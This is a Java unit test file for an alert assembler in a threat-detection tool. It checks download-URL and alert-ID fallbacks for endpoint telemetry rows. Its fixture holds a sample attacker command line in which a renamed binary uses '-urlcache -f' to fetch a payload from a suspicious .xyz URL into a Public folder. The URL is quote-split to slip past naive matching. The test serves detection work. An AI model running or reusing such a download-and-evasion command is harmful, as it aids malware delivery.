package dev.bazahunt.alert;

import static dev.bazahunt.correlation.CorrelationFixtures.T0;
import static dev.bazahunt.correlation.CorrelationFixtures.cacheRow;
import static dev.bazahunt.correlation.CorrelationFixtures.payloadRow;
import static dev.bazahunt.correlation.CorrelationFixtures.whoami;
import static org.assertj.core.api.Assertions.assertThat;

import dev.bazahunt.correlation.DownloadRow;
import dev.bazahunt.rules.RuleCatalog;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * What an alert falls back on when a row lacks what it normally comes from. The expected AlertIds are
 * literals, computed once by hand from README's recipe (MD5 name-based UUID of
 * {@code <RuleId>\n<DeviceId>|row|<ReportId>|<Timestamp ns>}), not by the code under test.
 */
class AlertAssemblyFallbacksTest {
    private final AlertAssembler assembler = new AlertAssembler(RuleCatalog.standard());

    /** A quote-split URL that the hardened rule reads through: no http:// survives in the raw text. */
    private static DownloadRow quoteSplitDownload(DownloadRow row, String fileOriginUrl) {
        row.initiatingProcessCommandLine = "x8k2.exe -urlcache -f h\"ttp\"://pshe0pxe339.xyz/xe1t23ym0s.php "
                + "C:\\Users\\Public\\x8k2\\tmp1834.dll";
        row.fileOriginUrl = fileOriginUrl;
        return row;
    }

    @Test
    void downloadUrlComesFromFileOriginUrlWhenTheCommandLineNamesNone() {
        DownloadRow withoutOrigin = quoteSplitDownload(payloadRow(), null);
        DownloadRow withOrigin = quoteSplitDownload(cacheRow(), "http://pshe0pxe339.xyz/xe1t23ym0s.php");

        Alert alert = assembler.hardenedAlert(List.of(withOrigin, withoutOrigin), 1);

        assertThat(CommandLineIocs.firstUrl(withOrigin.initiatingProcessCommandLine)).isNull();
        assertThat(alert.downloadUrl).isEqualTo("http://pshe0pxe339.xyz/xe1t23ym0s.php");
    }

    @Test
    void theCommandLinesUrlWinsOverFileOriginUrl() {
        DownloadRow row = payloadRow();
        row.fileOriginUrl = "https://bomovie.net/cancel.php";

        assertThat(assembler.baseAlert(List.of(row), 1).downloadUrl).isEqualTo("http://pshe0pxe339.xyz/xe1t23ym0s.php");
    }

    @Test
    void withNeitherTheAlertHasNoDownloadUrl() {
        assertThat(assembler.hardenedAlert(List.of(quoteSplitDownload(payloadRow(), null)), 1).downloadUrl).isNull();
    }

    @Test
    void withoutAProcessIdTheRowItselfIsTheAlertsIdentity() {
        DownloadRow nameless = payloadRow();
        nameless.initiatingProcessId = null;

        Alert alert = assembler.baseAlert(List.of(nameless), 1);
        Alert correlated = assembler.correlatedAlert(List.of(nameless), List.of(whoami()), 1);

        // f5ff5b00-…\nb2c4e6a8…abcde|row|18342|1626789778103456700
        assertThat(alert.alertId).isEqualTo("ee440adb-6859-32a4-a787-79f2c44dfede");
        assertThat(correlated.alertId).isEqualTo("184de399-d0e9-3e00-88a3-9b9b7bce6c0d");
        assertThat(correlated.relatedAlertId).isEqualTo(alert.alertId);
        assertThat(alert.initiatingProcessId).isNull();
    }

    @Test
    void withoutACreationTimeTheRowIsTheIdentityToo() {
        DownloadRow noCreationTime = payloadRow();
        noCreationTime.initiatingProcessCreationTime = null;

        Alert alert = assembler.baseAlert(List.of(noCreationTime), 1);

        assertThat(alert.alertId).isEqualTo("ee440adb-6859-32a4-a787-79f2c44dfede");
        assertThat(alert.initiatingProcessId).isEqualTo(7212L);
        assertThat(alert.initiatingProcessCreationTime).isNull();
    }

    /** Without the process instance, two rows of one download cannot be told to belong together. */
    @Test
    void rowsWithoutAProcessInstanceStandAlone() {
        DownloadRow payload = payloadRow();
        DownloadRow cache = cacheRow();
        payload.initiatingProcessId = null;
        cache.initiatingProcessId = null;

        assertThat(assembler.baseAlert(List.of(cache), 1).alertId).isEqualTo("a55e3504-f88d-31e3-876a-499346dc94f0");
        assertThat(assembler.baseAlert(List.of(payload), 1).alertId).isNotEqualTo(
                assembler.baseAlert(List.of(cache), 1).alertId);
        assertThat(payload.timestamp).isEqualTo(T0);
    }

    @Test
    void withTheProcessInstanceTheIdFollowsTheProcess() {
        // f5ff5b00-…\nb2c4e6a8…abcde|pid|7212|1626789777991234500: device A's download in the testdata.
        assertThat(assembler.baseAlert(List.of(payloadRow(), cacheRow()), 1).alertId)
                .isEqualTo("e608176f-fadc-3307-9008-02c24bc9218d");
    }
}
